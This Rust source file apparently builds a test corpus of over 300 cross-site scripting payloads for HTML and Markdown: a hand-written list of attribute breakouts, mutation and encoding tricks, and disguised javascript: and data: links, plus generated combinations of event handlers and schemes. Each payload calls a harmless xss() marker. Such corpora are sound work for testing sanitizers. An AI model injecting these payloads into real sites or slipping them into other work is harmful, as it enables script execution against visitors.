//! Ways to smuggle script into a page: known ones by hand, and families of them made from their parts.
use std::collections::BTreeSet;

/// What each of them tries to call.
const CALL: &str = "xss()";

/// By hand: breaking out of attributes, text, comments, URLs and Markdown; half tags; odd encodings.
const KNOWN: &[&str] = &[
    "<script>xss()</script>",
    "<ScRiPt >xss()</ScRiPt>",
    "<script\u{c}>xss()</script\u{c}>",
    "<script/x>xss()</script>",
    "<script src=data:text/javascript,xss()></script>",
    "<script type=module>xss()</script>",
    "<<script>xss()//<</script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "\"><script>xss()</script>",
    "'><script>xss()</script>",
    "\" onfocus=xss() autofocus x=\"",
    "' onfocus=xss() autofocus x='",
    "` onfocus=xss() autofocus x=`",
    "\" onmouseover=\"xss()",
    "\"/onclick=xss()//",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><script>xss()</script>",
    "</script><script>xss()</script>",
    "</noscript><script>xss()</script>",
    "--><script>xss()</script>",
    "]]><script>xss()</script>",
    "*/xss()/*",
    "';xss();//",
    "\";xss();//",
    "\\\";xss();//",
    "${xss()}",
    "{{xss()}}",
    "{{constructor.constructor('xss()')()}}",
    "#{xss()}",
    "<%= xss() %>",
    "{{course:\"><img src=x onerror=xss()>}}",
    "{{upcoming:city=\"><img src=x onerror=xss()>}}",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "&#x3c;img src=x onerror=xss()&#x3e;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}xss()\u{ff1c}/script\u{ff1e}",
    "<img src=x onerror=xss() ",
    "<img src=\"x\" onerror=\"xss()",
    "<img src=x onerror=xss()//",
    "<img/src=x/onerror=xss()>",
    "<img\tsrc=x\tonerror=xss()>",
    "<img src=x:x onerror\u{a0}=xss()>",
    "<img src='x`' onerror=xss() y='`'>",
    "<img srcset=x onerror=xss()>",
    "<image href=x onerror=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><script href=data:,xss() /></svg>",
    "<svg><a xlink:href=javascript:xss()><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>xss()</script></svg>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.xss()</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=xss()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>",
    "<math><a xlink:href=javascript:xss()>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<iframe src=\"data:text/html,<script>parent.xss()</script>\"></iframe>",
    "<object data=javascript:xss()></object>",
    "<object data=\"data:text/html,<script>xss()</script>\"></object>",
    "<embed src=javascript:xss()>",
    "<base href=javascript:/xss()//><a href=#>x</a>",
    "<meta http-equiv=refresh content=0;url=javascript:xss()>",
    "<link rel=import href=data:text/html,<script>xss()</script>>",
    "<link rel=stylesheet href=javascript:xss()>",
    "<style>@import 'javascript:xss()';</style>",
    "<div style=background:url(javascript:xss())>x</div>",
    "<div style=width:expression(xss())>x</div>",
    "<table background=javascript:xss()><tr><td>x</table>",
    "<isindex action=javascript:xss() type=submit>",
    "<form action=javascript:xss()><button>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:xss()>x</button>",
    "<input type=image src=x onerror=xss()>",
    "<template><script>xss()</script></template>",
    "<dialog open onclose=xss()><form method=dialog><button>x</button></form></dialog>",
    "<a href=javas&#99;ript:xss()>x</a>",
    "<a href=\"java\tscript:xss()\">x</a>",
    "<a href=\"\u{1}javascript:xss()\">x</a>",
    "<a href=\"javascript&colon;xss()\">x</a>",
    "<a ping=javascript:xss() href=#>x</a>",
    "[x](javascript:xss())",
    "[x](JaVaScRiPt:xss())",
    "[x](java&#115;cript:xss())",
    "[x](javascript&colon;xss())",
    "[x](<javascript:xss()>)",
    "[x](<java\tscript:xss()>)",
    "[x](data:text/html,<script>xss()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[x](vbscript:xss())",
    "[x](x \"onmouseover=xss() y=\")",
    "[x](x 'a\" onmouseover=xss() y=\"')",
    "[x](\"onmouseover=xss()//)",
    "![x](javascript:xss())",
    "![x](x\"onerror=\"xss\\(\\))",
    "![x\"onerror=xss() y=\"](x)",
    "![](data:image/svg+xml,<svg/onload=xss()>)",
    "<javascript:xss()>",
    "[x]: javascript:xss()\n\n[x]",
    "`<script>xss()</script>`",
    "```\"><script>xss()</script>\n<img src=x onerror=xss()>\n```",
    "# <img src=x onerror=xss()>",
    "> [!NOTE \"><img src=x onerror=xss()>]\n> x",
    "| <img src=x onerror=xss()> | b |\n|---|---|\n| <svg onload=xss()> | c |",
    "<img src=x onerror=xss()>\n: <svg onload=xss()>",
    "[^\"><img src=x onerror=xss()>]\n\n[^\"><img src=x onerror=xss()>]: x",
];

/// Tags that run something by themselves, and when.
const BY_THEMSELVES: &[(&str, &[&str])] = &[
    ("img src=x", &["onerror", "onload", "onloadstart"]),
    ("svg", &["onload", "onfocusin autofocus tabindex=1"]),
    ("svg><animate attributeName=x dur=1s", &["onbegin", "onend", "onrepeat"]),
    ("svg><set attributeName=x dur=1s", &["onbegin", "onend"]),
    ("body", &["onload", "onpageshow", "onfocus", "onhashchange", "onresize", "onscroll", "onpopstate"]),
    ("video><source", &["onerror"]),
    ("video src=x", &["onerror", "onloadstart", "oncanplay"]),
    ("audio src=x", &["onerror", "onloadstart", "onplay autoplay"]),
    ("details open", &["ontoggle"]),
    ("iframe", &["onload", "onerror"]),
    ("object data=x", &["onerror", "onload"]),
    ("embed src=x", &["onerror", "onload"]),
    ("link rel=stylesheet href=x", &["onerror", "onload"]),
    ("script src=x", &["onerror"]),
    ("style", &["onload", "onerror"]),
    ("marquee", &["onstart", "onbounce", "onfinish"]),
    ("input autofocus", &["onfocus", "onblur", "oninvalid", "onfocusin"]),
    ("select autofocus", &["onfocus", "onfocusin"]),
    ("textarea autofocus", &["onfocus", "onfocusin"]),
    ("button autofocus", &["onfocus", "onfocusin"]),
    ("a autofocus href=#", &["onfocus", "onfocusin"]),
    ("frameset", &["onload"]),
    ("keygen autofocus", &["onfocus"]),
];

/// Tags and what a visitor's hand does to them.
const BY_HAND: &[&str] =
    &["div", "p", "a href=#", "button", "img src=x", "svg", "math", "span", "b", "summary", "custom-tag"];
const ACTS: &[&str] =
    &["onclick", "onmouseover", "onmouseenter", "onpointerover", "onmousedown", "onmousemove", "onfocus", "onkeydown"];

/// Schemes that run script when a link is followed, as they are disguised.
const SCHEMES: &[&str] = &[
    "javascript:",
    "JAVASCRIPT:",
    " javascript:",
    "java\nscript:",
    "java\rscript:",
    "javascript\t:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript:/*--></title></style></textarea></script>*/",
    "javascript://%0a",
    "data:text/html,",
    "data:image/svg+xml,",
    "vbscript:",
    "feed:javascript:",
    "view-source:javascript:",
    "blob:javascript:",
];

/// All of them; those that swallow what follows (an open tag, comment or code) come last.
pub fn vectors() -> Vec<String> {
    let mut all: BTreeSet<String> = KNOWN.iter().map(|vector| (*vector).to_owned()).collect();
    for (tag, events) in BY_THEMSELVES {
        all.extend(events.iter().map(|event| match event.split_once(' ') {
            Some((event, rest)) => format!("<{tag} {event}={CALL} {rest}>"),
            None => format!("<{tag} {event}={CALL}>"),
        }));
    }
    for tag in BY_HAND {
        all.extend(ACTS.iter().map(|act| format!("<{tag} {act}=\"{CALL}\">x")));
        all.insert(format!("\"><{tag} onclick={CALL}>x"));
    }
    for scheme in SCHEMES {
        all.insert(format!("<a href=\"{scheme}{CALL}\">x</a>"));
        all.insert(format!("[x]({scheme}{CALL})"));
        all.insert(format!("<form action=\"{scheme}{CALL}\"><input type=submit></form>"));
    }
    let mut all = Vec::from_iter(all);
    all.sort_by_key(|vector| !vector.ends_with(['>', ')', 'x']) || vector.contains("```"));
    all
}

#[test]
fn there_are_three_hundred_ways_or_more() {
    let all = vectors();
    assert!(all.len() >= 300, "only {}", all.len());
    assert!(all.iter().all(|vector| vector.contains("xss") || vector.contains("base64")));
}
